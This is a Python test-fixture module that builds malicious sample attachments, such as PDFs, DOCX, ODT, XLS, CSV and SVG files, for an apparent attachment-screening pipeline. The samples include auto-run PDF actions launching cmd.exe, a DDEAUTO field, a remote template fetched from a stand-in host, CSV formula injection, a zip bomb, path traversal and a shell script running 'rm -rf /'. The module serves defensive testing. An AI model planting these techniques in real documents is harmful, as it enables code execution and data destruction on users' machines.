"""Files as staff attach them, and as somebody who means harm makes them."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable, Mapping
from typing import Any

import docx
import pikepdf
import typst
from pikepdf import Array, Dictionary, Name, Pdf, Stream, String

from pipeline.model import NOTHING
from tests.attachments.compound_files import compound_file

TYPES = "[Content_Types].xml"
DOCUMENT = "word/document.xml"
RELATIONS = "word/_rels/document.xml.rels"
_PAGE = """#set document(title: "Kế hoạch số 57", author: "Trần Văn Soạn", date: none)
= Kế hoạch số 57
Phường mở lớp kỹ năng số.
#pagebreak()
Kinh phí 25 triệu đồng."""
_EXTERNAL = (
    '<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships/attachedTemplate" Target="http://xa.example/mau.dotm" TargetMode="External"/>'
)


def pdf(change: Callable[[Pdf], None] = lambda _: None, **options: Any) -> bytes:
    """A PDF of two pages by a named author, after a change."""
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(typst.compile(_PAGE.encode()))) as file:
        change(file)
        file.save(out, **options)
    return out.getvalue()


def action(kind: str, **told: Any) -> bytes:
    """A PDF that does something when it is opened."""

    def change(file: Pdf) -> None:
        file.Root.OpenAction = Dictionary(S=Name(f"/{kind}"), **told)

    return pdf(change, object_stream_mode=pikepdf.ObjectStreamMode.generate)


def pdf_with_file() -> bytes:
    def change(file: Pdf) -> None:
        file.attachments["ma.exe"] = b"MZ"

    return pdf(change)


def pdf_with_form() -> bytes:
    def change(file: Pdf) -> None:
        file.Root.AcroForm = Dictionary(Fields=Array(), XFA=Stream(file, b"<xdp/>"))

    return pdf(change)


def signed_pdf() -> bytes:
    def change(file: Pdf) -> None:
        value = Dictionary(Type=Name.Sig, ByteRange=Array([0, 9, 9, 9]), Contents=String(b"x"))
        field = Dictionary(FT=Name.Sig, T=String("ky"), V=file.make_indirect(value))
        file.Root.AcroForm = Dictionary(Fields=Array([file.make_indirect(field)]))

    return pdf(change)


def locked_pdf(user: str) -> bytes:
    return pdf(encryption=pikepdf.Encryption(owner="chu", user=user, R=6))


def word(*paragraphs: str) -> bytes:
    """A DOCX by a named author."""
    document = docx.Document()
    document.core_properties.author = "Nguyễn Thị Soạn"
    document.core_properties.last_modified_by = "Lê Văn Sửa"
    for each in paragraphs or ("Mẫu đơn đăng ký.",):
        document.add_paragraph(each)
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def changed(
    data: bytes,
    added: Mapping[str, bytes] = NOTHING,
    replaced: tuple[str, str, str] | None = None,
) -> bytes:
    """A ZIP with more parts, or with other words in one of them (part, words, new words)."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as old, zipfile.ZipFile(out, "w") as new:
        for each in old.infolist():
            body = old.read(each)
            if replaced and each.filename == replaced[0]:
                assert replaced[1].encode() in body
                body = body.replace(replaced[1].encode(), replaced[2].encode())
            new.writestr(each.filename, body, zipfile.ZIP_DEFLATED)
        for name, body in added.items():
            new.writestr(name, body, zipfile.ZIP_DEFLATED)
    return out.getvalue()


def zipped(parts: Mapping[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as new:
        for name, body in parts.items():
            new.writestr(name, body)
    return out.getvalue()


def odf(parts: Mapping[str, bytes] = NOTHING, kind: str = "text") -> bytes:
    content = (
        b'<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"'
        b' xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"><office:body>'
        b"<text:p>L\xe1\xbb\x9bp h\xe1\xbb\x8dc s\xe1\xbb\x91</text:p></office:body>"
        b"</office:document-content>"
    )
    mime = f"application/vnd.oasis.opendocument.{kind}".encode()
    return zipped({"mimetype": mime, "content.xml": content, **parts})


def _field(code: str) -> bytes:
    """A DOCX with a field whose code stands in two pieces."""
    half = len(code) // 2
    runs = "".join(
        f"<w:r><w:instrText>{each}</w:instrText></w:r>" for each in (code[:half], code[half:])
    )
    return changed(word(), replaced=(DOCUMENT, "</w:p>", f"{runs}</w:p>"))


_MACRO = (
    TYPES,
    "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
    "application/vnd.ms-word.document.macroEnabled.main+xml",
)
_OLE = compound_file({"\x01Ole10Native": b"MZ"})

HOSTILE: dict[str, tuple[str, bytes]] = {  # what it is → (a word of what staff read, its bytes)
    "javascript.pdf": ("mã chạy được", action("JavaScript", JS=String("app.alert(1)"))),
    "chay.pdf": ("mã chạy được", action("Launch", F=String("cmd.exe"))),
    "gui.pdf": ("mã chạy được", action("SubmitForm", F=String("http://xa.example"))),
    "nhap.pdf": ("mã chạy được", action("ImportData", F=String("x.fdf"))),
    "bieu-mau.pdf": ("mã chạy được", pdf_with_form()),
    "kem-tep.pdf": ("giấu bên trong", pdf_with_file()),
    "mat-khau.pdf": ("mật khẩu", locked_pdf("bi-mat")),
    "cut.pdf": ("hỏng", b"%PDF-1.7\n" + bytes(200)),
    "rong-trang.pdf": ("hỏng", b"%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>"),
    "hai-mat.pdf": ("vừa là", pdf() + zipped({"a.txt": b"x"})),
    "rac-truoc.pdf": ("vừa là", b"<script>alert(1)</script>\n" + pdf()),
    "trang.pdf": ("chạy được", b"<html><script>alert(1)</script></html>"),
    "that-la-word.pdf": ("thật ra là DOCX", word()),
    "that-la-pdf.docx": ("thật ra là PDF", pdf()),
    "macro.docx": ("macro", changed(word(), replaced=_MACRO)),
    "vba.docx": ("macro", changed(word(), {"word/vbaProject.bin": b"x"})),
    "activex.docx": ("macro", changed(word(), {"word/activeX/activeX1.xml": b"<x/>"})),
    "mau-tu-xa.docx": (
        "tự tải",
        changed(word(), replaced=(RELATIONS, "</Relationships>", f"{_EXTERNAL}</Relationships>")),
    ),
    "dde.docx": ("gọi chương trình", _field("DDEAUTO c:\\\\cmd.exe")),
    "ole.docx": ("giấu bên trong", changed(word(), {"word/embeddings/oleObject1.bin": _OLE})),
    "exe.docx": ("giấu bên trong", changed(word(), {"word/media/anh.exe": b"MZ"})),
    "bom.docx": ("bung ra", changed(word(), {"word/media/x.bin": bytes(450_000_000)})),
    "thoat.docx": ("vừa là", changed(word(), {"../../x": b"x"})),
    "trung-ten.docx": ("vừa là", changed(word(), {"word/document.xml": b"<x/>"})),
    "noi-duoi.docx": ("vừa là", word() + b"MZ" + bytes(100)),
    "cut.docx": ("hỏng", word()[:3000]),
    "mat-khau.docx": ("mật khẩu", compound_file({"EncryptedPackage": b"x"})),
    "macro.odt": ("macro", odf({"Basic/Standard/Module1.xml": b"<x/>"})),
    "mat-khau.odt": (
        "mật khẩu",
        odf({"META-INF/manifest.xml": b"<manifest:encryption-data/>"}),
    ),
    "macro.xls": ("macro", compound_file({"Workbook": b"\x09\x08\0\0"}, ("_VBA_PROJECT_CUR",))),
    "mat-khau.xls": ("mật khẩu", compound_file({"Workbook": b"\x09\x08\0\0\x2f\0\0\0"})),
    "mat-khau.doc": ("mật khẩu", compound_file({"WordDocument": bytes(10) + b"\0\1"})),
    "ole.doc": ("giấu bên trong", compound_file({"WordDocument": b"x", "\x01Ole10Native": b"MZ"})),
    "cut.doc": ("hỏng", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(90)),
    "cai-dat.doc": ("không thuộc loại", compound_file({"Property": b"x"})),
    "cong-thuc.csv": ("công thức", "Tên,Số\n=HYPERLINK(“http://xa.example”),1\n".encode()),
    "nhi-phan.csv": ("hỏng", bytes(range(32)) * 9),
    "nen.zip": ("tệp nén", zipped({"a.txt": b"x"})),
    "nen.rar": ("tệp nén", b"Rar!\x1a\x07\x00" + bytes(50)),
    "nen.7z": ("tệp nén", b"7z\xbc\xaf\x27\x1c" + bytes(50)),
    "may.exe": ("chạy được", b"MZ" + bytes(500)),
    "lenh.sh": ("chạy được", b"#!/bin/sh\nrm -rf /\n"),
    "tat.lnk": ("chạy được", b"L\0\0\0\x01\x14\x02\0" + bytes(60)),
    "hinh.svg": ("chạy được", b"<svg onload='alert(1)'/>"),
    "ghi-chu.txt": ("không thuộc loại", "Chữ thường".encode()),
    "am.mp3": ("không thuộc loại", "không phải âm thanh".encode()),
    "anh.png": ("hỏng", b"\x89PNG\r\n\x1a\n" + bytes(90)),
    "trong.pdf": ("rỗng", b""),
}
